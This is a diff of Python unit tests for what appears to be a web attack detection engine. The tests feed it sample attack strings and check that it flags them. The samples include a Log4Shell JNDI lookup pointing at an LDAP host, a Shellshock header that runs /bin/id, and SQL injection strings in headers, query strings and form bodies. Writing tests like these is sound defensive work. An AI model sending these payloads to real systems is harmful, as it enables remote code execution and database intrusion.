@@ -102,9 +102,16 @@ def test_payloads_in_bodies_cookies_and_headers_are_inspected() -> None:
 
 
 def test_extra_headers_are_inspected_only_when_named() -> None:
-    hostile = request("/", X_Api_Version="${jndi:ldap://203.0.113.9/a}")
+    hostile = request("/", X_Api_Version="1' or '1'='1")
     assert not ENGINE.inspect(hostile).malicious
     assert Engine(Settings(headers=("user-agent", "referer", "x-api-version"))).inspect(hostile).malicious
+
+
+def test_lookups_and_function_definitions_count_in_any_header() -> None:
+    # Log4Shell and Shellshock arrive in whatever header an application logs or exports.
+    assert ENGINE.inspect(request("/", X_Api_Version="${jndi:ldap://203.0.113.9/a}")).malicious
+    assert ENGINE.inspect(request("/", X_Forwarded_Host="() { :; }; /bin/id")).malicious
+    assert not ENGINE.inspect(request("/", Accept="text/html,*/*;q=0.8", X_Requested_With="XMLHttpRequest")).malicious
 
 
 def test_the_body_beyond_the_limit_is_passed_uninspected_and_counted() -> None:
@@ -138,3 +145,26 @@ def test_profiles_and_known_routes_keep_an_apps_own_paths_from_counting() -> Non
     assert not ENGINE.inspect(request("/wp-login.php"), known_route=True).malicious
     # Injections still count on the app's own routes.
     assert ENGINE.inspect(request("/wp-login.php?log=admin%27%20or%20%271%27%3D%271"), known_route=True).malicious
+
+
+def test_a_body_of_many_suspicious_values_costs_a_bounded_time_and_counts_the_rest() -> None:
+    from stockade.detection.engine import MAX_BODY_VALUES  # noqa: PLC0415
+
+    decoys = "&".join(f"f{i}=it%27s+{i}" for i in range(MAX_BODY_VALUES))
+    form = request(
+        "/form",
+        method="POST",
+        body=decoys + "&q=1%27+or+%271%27%3D%271",
+        content_type="application/x-www-form-urlencoded",
+    )
+    verdict = ENGINE.inspect(form)
+    assert verdict.uninspected == len("q=1' or '1'='1")
+    assert not verdict.malicious  # the value beyond the bound passes uninspected, and is counted
+    assert ENGINE.inspect(
+        request(
+            "/form",
+            method="POST",
+            body="q=1%27+or+%271%27%3D%271&" + decoys,
+            content_type="application/x-www-form-urlencoded",
+        )
+    ).malicious
